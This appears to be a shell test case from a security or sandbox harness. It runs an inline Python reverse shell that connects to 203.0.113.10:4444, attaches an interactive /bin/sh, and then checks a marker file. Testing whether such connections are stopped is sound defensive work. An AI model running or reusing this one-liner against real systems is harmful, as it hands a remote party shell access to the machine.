#!/bin/sh
. /opt/case/case.sh

python3 -c '
import socket, subprocess
c = socket.create_connection(("203.0.113.10", 4444))
subprocess.Popen(["/bin/sh", "-i"], stdin=c, stdout=c, stderr=subprocess.STDOUT, start_new_session=True).wait()' || true
test -e /tmp/reached
took_place
